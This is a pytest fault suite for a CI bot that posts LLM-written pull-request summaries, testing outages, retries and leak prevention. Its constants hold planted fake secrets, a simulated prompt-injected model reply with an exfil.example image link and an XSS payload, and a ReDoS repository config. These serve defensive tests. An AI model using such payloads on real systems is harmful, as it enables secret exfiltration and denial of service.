"""The fault suite: real `cibot worker` processes at their default settings, the real webhook
edge (uvicorn, with its spool), a private persistent Redis the tests stop and restart, and
loopback stand-ins for GitHub (PyGithub) and the model servers (litellm).

Each test asserts what cibot guarantees under one fault, at the default time limits rather
than shortened ones that would hide the waits: nothing lost, nothing done twice, how long
recovery takes, what a bystander waits behind a hostile tenant, and that no secret, foreign
link or dangerous suggestion leaves in any external request or post. The figures are
printed and written to ``tests/artifacts/faults.json`` for the release notes.
"""

from __future__ import annotations

import json
import os
import signal
import subprocess
import sys
import time
import uuid
from collections.abc import Callable, Iterator
from dataclasses import dataclass, field
from pathlib import Path
from typing import Any

import httpx
import pytest
import redis

from bot.kernel.settings import Settings
from policies.loading import load_policy
from tests.edge_server import EdgeServer, fixture, headers_for
from tests.fakes.github import FakeGitHub
from tests.fakes.model import FakeModelServer
from tests.services import RedisServer, redis_binary
from tests.test_pipeline import DIFF, GOOD, INSTALLATION, LOCAL_ID, environment, write_policy
from workers.journal import KILLED
from workers.ledger import SUCCEEDED, Ledger

pytestmark = [pytest.mark.integration, pytest.mark.slow]

ARTIFACTS = Path(__file__).parent / "artifacts"
FIGURES: dict[str, Any] = {}
BURST = int(os.environ.get("CIBOT_FAULT_BURST", "60"))  # deliveries in the Redis-outage burst
OUTAGE_S = 10.0
RECOVERY_TARGET_S = 60.0
REPO, EVIL, BYSTANDER, SECRETS = "acme/app", "evil/app", "calm/app", "acme/auth"

# Secrets of the kinds that used to get through, planted in a PR that escalates externally.
PLANTED = {
    "redis_url": "s3cr3tPassw0rd9x",
    "postgres_url": "Hunter2Hunter2xq",
    "libpq_dsn": "Zq8vT2mK9pL4wR7n",
    "yaml_entropy": "9fK2mQ7xLp3Vt8Zr1Nb6Yc4Wd0Hs5Je",
    "markdown": "Tr0ub4dor-3xQ-Lm9",
    "slack": "XyZ123abcDEF456ghiJKL789",
    "github": "ghp_a1B2c3D4e5F6g7H8i9J0k1L2m3N4o5P6q7R8",
    "aws": "wJalrXUtnFEMI/K7MDENG/bPxRfiCYzQ7KEYq1",
    "env_stripe": "sk_live_51H8xYzAbCdEfGhIjKlMnOpQr",
    "json_token": "e8a1f0c2b94d4c7e9a3f5b6d7c8e9f01",
    "toml_secret": "Q2hhbmdlTWVQbGVhc2UxMjM0NTY3ODk",
}
SECRET_DIFF = f"""\
diff --git a/src/auth/session.py b/src/auth/session.py
--- a/src/auth/session.py
+++ b/src/auth/session.py
@@ -1,2 +1,5 @@
 def login(user):
+    user.session_id = make_session()
+    CACHE = "redis://:{PLANTED["redis_url"]}@cache.internal:6379/0"
+    DB = "postgresql://app:{PLANTED["postgres_url"]}@db.internal/app"
     return user
diff --git a/deploy/app.yaml b/deploy/app.yaml
--- a/deploy/app.yaml
+++ b/deploy/app.yaml
@@ -1 +1,3 @@
 name: app
+dsn: host=db user=app password={PLANTED["libpq_dsn"]} dbname=app
+value: {PLANTED["yaml_entropy"]}
diff --git a/docs/setup.md b/docs/setup.md
--- a/docs/setup.md
+++ b/docs/setup.md
@@ -1 +1,3 @@
 # Setup
+The admin password is `{PLANTED["markdown"]}` for now.
+Alerts go to https://hooks.slack.com/services/T0000AAAA/B0000BBBB/{PLANTED["slack"]}
diff --git a/.env.example b/.env.example
--- a/.env.example
+++ b/.env.example
@@ -1 +1,4 @@
 DEBUG=1
+GITHUB_TOKEN={PLANTED["github"]}
+AWS_SECRET_ACCESS_KEY={PLANTED["aws"]}
+STRIPE_KEY={PLANTED["env_stripe"]}
diff --git a/config/keys.json b/config/keys.json
--- a/config/keys.json
+++ b/config/keys.json
@@ -1 +1 @@
-{{}}
+{{"api_token": "{PLANTED["json_token"]}"}}
diff --git a/config/app.toml b/config/app.toml
--- a/config/app.toml
+++ b/config/app.toml
@@ -1 +1,2 @@
 [app]
+secret = "{PLANTED["toml_secret"]}"
"""
# A reply steered by an injected PR: it echoes every secret, links elsewhere, embeds an
# image that would leak what it saw, and carries raw HTML.
HOSTILE_REPLY = {
    "what": "Adds a session id. " + " ".join(PLANTED.values()),
    "why": "See ![x](http://exfil.example/r.png?d=1) and [docs](http://exfil.example/p) "
    "<img src=x onerror=alert(1)>",
    "risks": ["none"],
    "files": [{"path": "src/auth/session.py", "change": "sets session_id"}],
}
HOSTILE_CONFIG = (
    "sensitive:\n  auth:\n    content:\n      - pattern: '((a+))+$'\n    paths:\n"
    + "".join(f"      - 'x{i}/**/{'*a' * 3}/**'\n" for i in range(3000))
)


@dataclass
class Site:
    """Hold the fakes, the edge, the worker processes and what the tests read back."""

    redis_server: RedisServer
    github: FakeGitHub
    local: FakeModelServer
    external: FakeModelServer
    env: dict[str, str]
    logs: Path
    ledger: Ledger
    edge: EdgeServer
    http: httpx.Client
    workers: dict[str, subprocess.Popen[bytes]] = field(default_factory=dict)
    opened: list[tuple[str, int]] = field(default_factory=list)
    burst: list[int] = field(default_factory=list)
    burst_done: float = 0.0
    sent: int = 0

    def start_worker(self, name: str, *queues: str) -> None:
        """Start `cibot worker` for the queues at its default limits and retry pacing."""
        args = [sys.executable, "-m", "bot.cli", "worker", "--queues", ",".join(queues)]
        args += ["--loglevel", "INFO"]
        if len(queues) == 1:
            args += ["--concurrency", "4", "--hostname", f"{name}@faults"]
        with (self.logs / f"{name}.log").open("ab") as log:
            self.workers[name] = subprocess.Popen(
                args, env=self.env, stdout=log, stderr=subprocess.STDOUT
            )

    def wait_ready(self, name: str, count: int = 1) -> None:
        """Wait for the worker's "ready" lines."""
        path = self.logs / f"{name}.log"
        wait_for(
            lambda: path.read_text(errors="replace").count(" ready.") >= count,
            90,
            f"worker {name} ready",
        )

    def open_pr(
        self, repo: str, number: int, *, title: str, diff: str = DIFF, sha: str = ""
    ) -> str:
        """Open a PR on the fake GitHub and deliver its signed `opened` webhook to the edge."""
        sha = sha or f"{number:040x}"
        self.github.add_pull(repo, number, title=title, diff=diff, head_sha=sha)
        self.opened.append((repo, number))
        return self.deliver(repo, number, sha=sha, title=title)

    def deliver(self, repo: str, number: int, *, sha: str, title: str) -> str:
        """POST one signed `pull_request.opened` delivery; return its delivery id."""
        payload = fixture("pull_request.opened")
        payload["installation"] = {"id": INSTALLATION}
        payload["repository"] = {**payload["repository"], "full_name": repo}
        pull = dict(payload["pull_request"])
        pull.update(number=number, title=title, draft=False)
        pull["head"] = {**pull["head"], "sha": sha}
        payload["pull_request"], payload["number"] = pull, number
        body = json.dumps(payload).encode()
        self.sent += 1
        delivery = str(uuid.uuid5(uuid.NAMESPACE_URL, f"{repo}#{number}@{sha}:{self.sent}"))
        started = time.monotonic()
        response = self.http.post(
            "/webhook",
            content=body,
            headers=headers_for(body, event="pull_request", delivery=delivery),
        )
        FIGURES.setdefault("ack_ms", []).append((time.monotonic() - started) * 1000)
        assert response.status_code in (200, 202), response.text
        return delivery

    def summaries(self, repo: str, number: int) -> list[dict[str, Any]]:
        """Return the PR's comments carrying the summary marker."""
        return [c for c in self.github.comments(repo, number) if "cibot:summary" in c["body"]]

    def job(self, repo: str, number: int) -> dict[str, Any] | None:
        """Return the PR's summary job row."""
        jobs, _, _ = self.ledger.rows()
        keys = [j.job_key for j in jobs if j.repo == repo and j.pr_number == number]
        return self.ledger.job(keys[-1]) if keys else None

    def dump_logs(self) -> str:
        """Return the tail of every worker log, for failure messages."""
        return "\n".join(
            f"== {p.name}\n{p.read_text(errors='replace')[-3000:]}"
            for p in sorted(self.logs.glob("*.log"))
        )


def wait_for(check: Callable[[], bool], timeout: float, what: str) -> float:
    """Poll ``check`` until true; return the seconds it took, or fail naming ``what``."""
    started = time.monotonic()
    while time.monotonic() - started < timeout:
        try:
            if check():
                return time.monotonic() - started
        except (redis.ConnectionError, httpx.HTTPError):
            pass
        time.sleep(0.1)
    raise AssertionError(f"timed out after {timeout}s waiting for {what}")


@pytest.fixture(scope="module")
def site(tmp_path_factory: pytest.TempPathFactory) -> Iterator[Site]:
    """Start a persistent Redis, the fakes, the edge and three workers at default settings."""
    binary = redis_binary()
    if binary is None:
        from tests.conftest import unavailable

        unavailable("redis-server is not installed: apt-get install redis-server to run this test")
        raise AssertionError("unreachable")
    server = RedisServer(binary=binary, persistent=True)
    server.start()
    tmp = tmp_path_factory.mktemp("faults")
    with (
        FakeGitHub() as gh,
        FakeModelServer("local", model_ids=(LOCAL_ID,)) as local,
        FakeModelServer("external", model_ids=("gpt-5", "gpt-5.5")) as external,
    ):
        gh.add_installation(INSTALLATION, [REPO, EVIL, BYSTANDER, SECRETS])
        db = f"sqlite:///{tmp / 'ledger.db'}"
        policy_path = write_policy(tmp)
        env = {
            **os.environ,
            **environment(gh, local, external, server.url, db, policy_path),
            "CIBOT_WORKER_METRICS_PORT": "off",
        }
        settings = Settings(
            webhook_secret="It's a Secret to Everybody",
            redis_url=server.url,
            database_url=db,
            spool_path=tmp / "spool.db",
        )
        edge = EdgeServer(settings, load_policy(policy_path)).start()
        world = Site(
            server,
            gh,
            local,
            external,
            env,
            tmp,
            Ledger(db),
            edge,
            httpx.Client(base_url=edge.url, timeout=10),
        )
        world.start_worker("sup", "github", "external")
        for name in ("local-a", "local-b"):
            world.start_worker(name, "local")
        try:
            world.wait_ready("sup", count=2)
            world.wait_ready("local-a")
            world.wait_ready("local-b")
            yield world
        finally:
            _stop(world.workers.values())
            edge.stop()
            world.http.close()
            world.ledger.close()
            server.stop()
            ARTIFACTS.mkdir(exist_ok=True)
            acks = sorted(FIGURES.pop("ack_ms", [0.0]))
            FIGURES["ack_ms_median"] = round(acks[len(acks) // 2], 2)
            FIGURES["ack_ms_max"] = round(acks[-1], 2)
            (ARTIFACTS / "faults.json").write_text(json.dumps(FIGURES, indent=2) + "\n")
            print("\nfault suite figures:", json.dumps(FIGURES, indent=2))


def _stop(procs: Any) -> None:
    """SIGTERM the workers, then SIGKILL those that linger."""
    procs = list(procs)
    for proc in procs:
        if proc.poll() is None:
            proc.send_signal(signal.SIGTERM)
    for proc in procs:
        try:
            proc.wait(timeout=30)
        except subprocess.TimeoutExpired:
            proc.kill()
            proc.wait()


def test_a_redis_outage_during_a_burst_loses_and_duplicates_nothing(site: Site) -> None:
    """Deliveries keep coming while Redis is down for 10 s: every one is acked, spooled or
    queued, and each PR ends with exactly one summary, the ones in flight at the stop too."""
    site.local.script("Burst", reply=GOOD)
    first = BURST // 2
    numbers = list(range(100, 100 + BURST))
    for number in numbers[:first]:
        site.open_pr(REPO, number, title=f"Burst {number}")
    site.redis_server.stop()  # some of those are being dispatched or computed right now
    stopped = time.monotonic()
    during = numbers[first : first + BURST // 3]
    for number in during:
        site.open_pr(REPO, number, title=f"Burst {number}")
    time.sleep(max(0.0, OUTAGE_S - (time.monotonic() - stopped)))
    site.redis_server.start()
    restarted = time.monotonic()
    for number in numbers[first + len(during) :]:
        site.open_pr(REPO, number, title=f"Burst {number}")
    try:
        wait_for(
            lambda: all(len(site.summaries(REPO, n)) >= 1 for n in numbers),
            240,
            "every burst PR's summary",
        )
    except AssertionError as exc:
        missing = [n for n in numbers if not site.summaries(REPO, n)]
        raise AssertionError(f"missing {missing}\n{site.dump_logs()}") from exc
    done_after_restart = time.monotonic() - restarted
    counts = [len(site.summaries(REPO, n)) for n in numbers]
    FIGURES["outage_burst"] = {
        "deliveries": BURST,
        "outage_s": OUTAGE_S,
        "all_done_after_restart_s": round(done_after_restart, 1),
        "lost": sum(c == 0 for c in counts),
    }
    assert counts == [1] * BURST
    rows = [site.job(REPO, n) for n in numbers]
    assert all(r is not None and r["status"] == SUCCEEDED for r in rows)
    site.burst, site.burst_done = numbers, time.monotonic()  # checked again last


def test_a_worker_killed_mid_call_is_recovered_within_a_minute(site: Site) -> None:
    """SIGKILL the worker whose model call is in flight, at default limits, and start another:
    the job completes once within 60 s, and the killed call is in the ledger, priced."""
    site.local.script("Killed mid-call", reply=GOOD, times=1, delay=600)  # hangs: a slow model
    site.local.script("Killed mid-call", reply=GOOD)
    before = len(site.local.chat_requests())
    site.open_pr(REPO, 1, title="Killed mid-call")
    wait_for(lambda: len(site.local.chat_requests()) > before, 60, "the model call")
    wait_for(lambda: bool((site.job(REPO, 1) or {}).get("worker")), 10, "the job to run")
    row = site.job(REPO, 1)
    assert row is not None
    victim = int(row["worker"].rsplit(":", 1)[1])
    name = next(n for n, p in site.workers.items() if p.pid == victim)
    os.kill(victim, signal.SIGKILL)
    site.workers.pop(name).wait(timeout=10)
    killed_at = time.monotonic()
    site.start_worker(f"{name}-again", "local")  # the worker comes back, as a supervisor does
    try:
        wait_for(lambda: len(site.summaries(REPO, 1)) == 1, 120, "the summary after the kill")
    except AssertionError as exc:
        raise AssertionError(site.dump_logs()) from exc
    recovery = time.monotonic() - killed_at
    wait_for(lambda: (site.job(REPO, 1) or {}).get("status") == SUCCEEDED, 20, "the job to close")
    row = site.job(REPO, 1)
    assert row is not None and len(site.summaries(REPO, 1)) == 1
    assert row["attempts"] == 2 and int(row["worker"].rsplit(":", 1)[1]) != victim
    calls = site.ledger.calls(row["job_key"])
    assert [c["error_kind"] for c in calls] == [KILLED, ""], calls
    assert calls[0]["cost_usd"] > 0 and calls[0]["prompt_tokens"] > 0
    FIGURES["sigkill_recovery_s"] = round(recovery, 1)
    FIGURES["sigkill_summaries"] = len(site.summaries(REPO, 1))
    assert recovery <= RECOVERY_TARGET_S, site.dump_logs()


def test_github_5xx_and_429_are_retried_as_github_asks_and_post_once(site: Site) -> None:
    """Two 502s and a 429 with Retry-After on the comment POST: one comment, after the wait."""
    site.local.script("Flaky GitHub", reply=GOOD)
    site.github.inject("POST", rf"/repos/{REPO}/issues/300/comments", status=502, times=2)
    site.github.inject(
        "POST",
        rf"/repos/{REPO}/issues/300/comments",
        status=429,
        headers={"Retry-After": "3"},
        times=1,
    )
    started = time.monotonic()
    site.open_pr(REPO, 300, title="Flaky GitHub")
    took = wait_for(lambda: len(site.summaries(REPO, 300)) == 1, 120, "the summary")
    time.sleep(2)
    assert len(site.summaries(REPO, 300)) == 1
    posts = site.github.calls_to("POST", rf"/repos/{REPO}/issues/300/comments")
    assert len(posts) == 4  # 502, 502, 429, then the one that landed
    FIGURES["github_5xx_429_s"] = round(time.monotonic() - started - 2, 1)
    assert took >= 3  # the Retry-After was honoured


def test_a_down_private_model_falls_back_and_nothing_secret_leaves(site: Site) -> None:
    """The local model refuses; a sensitive PR full of secrets goes to the API tier redacted,
    and the model's echo of them, its foreign links and images never reach the PR."""
    site.local.fail("refuse", times=3, match="Secrets everywhere")
    site.external.script("Secrets everywhere", reply=HOSTILE_REPLY)
    before = len(site.external.chat_requests())
    site.open_pr(SECRETS, 400, title="Secrets everywhere", diff=SECRET_DIFF)
    try:
        wait_for(lambda: len(site.summaries(SECRETS, 400)) == 1, 120, "the summary")
    except AssertionError as exc:
        raise AssertionError(site.dump_logs()) from exc
    external = json.dumps(site.external.chat_requests()[before:])
    posted = "\n".join(c["body"] for c in site.github.comments(SECRETS, 400))
    leaked_out = [k for k, v in PLANTED.items() if v in external]
    leaked_back = [k for k, v in PLANTED.items() if v in posted]
    FIGURES["secrets"] = {
        "planted": len(PLANTED),
        "in_external_requests": len(leaked_out),
        "in_posts": len(leaked_back),
    }
    assert external.count("session_id") >= 1  # the change itself did go out
    assert leaked_out == [] and leaked_back == []
    assert "exfil.example" not in posted and "<img" not in posted and "![" not in posted
    row = site.job(SECRETS, 400)
    assert row is not None and row["post_removals"] >= len(PLANTED)
    FIGURES["post_removals"] = row["post_removals"]


def test_a_hostile_repo_config_does_not_slow_a_bystander(site: Site) -> None:
    """A repo whose config carries a catastrophic regex and thousands of globs: its PR is
    told once, and another installation's PR behind it waits no longer than alone."""
    site.local.script("Calm", reply=GOOD)
    site.local.script("Hostile", reply=GOOD)
    site.open_pr(BYSTANDER, 500, title="Calm alone")
    alone = wait_for(lambda: len(site.summaries(BYSTANDER, 500)) == 1, 60, "the lone summary")
    site.github.set_file(EVIL, ".github/cibot.yml", HOSTILE_CONFIG)
    for number in range(600, 605):
        site.open_pr(EVIL, number, title=f"Hostile {number}")
    behind = time.monotonic()
    site.open_pr(BYSTANDER, 501, title="Calm behind")
    wait_for(lambda: len(site.summaries(BYSTANDER, 501)) == 1, 60, "the bystander's summary")
    waited = time.monotonic() - behind
    wait_for(
        lambda: all(len(site.summaries(EVIL, n)) == 1 for n in range(600, 605)),
        60,
        "the hostile PRs' summaries under the operator's policy",
    )
    notes = [
        c
        for n in range(600, 605)
        for c in site.github.comments(EVIL, n)
        if "cibot:config" in c["body"]
    ]
    assert len(notes) == 5  # once per PR, and not again on a redelivery
    FIGURES["bystander_latency_s"] = {"alone": round(alone, 2), "behind_hostile": round(waited, 2)}
    assert waited <= max(3 * alone, alone + 2.0)


def test_model_output_cannot_post_foreign_links_or_dangerous_suggestions(site: Site) -> None:
    """Every post of the suite is clean: no image, no link off GitHub, no risky suggestion."""
    bodies = [c["body"] for repo, number in site.opened for c in site.github.comments(repo, number)]
    assert bodies
    assert not any("exfil.example" in b or "<img" in b or "<script" in b for b in bodies)
    assert not any(v in b for v in PLANTED.values() for b in bodies)
    FIGURES["posts_scanned"] = len(bodies)


def test_nothing_was_posted_twice(site: Site) -> None:
    """Last, well past the message lease and the outbox's grace: every PR of the suite has
    one summary at most, and each burst PR exactly one."""
    wait = 35 - (time.monotonic() - site.burst_done) if site.burst_done else 0
    time.sleep(max(0.0, wait))
    counts = {(repo, n): len(site.summaries(repo, n)) for repo, n in site.opened}
    FIGURES["duplicated"] = sum(c > 1 for c in counts.values())
    assert all(c <= 1 for c in counts.values()), {k: c for k, c in counts.items() if c > 1}
    assert all(counts[(REPO, n)] == 1 for n in site.burst)
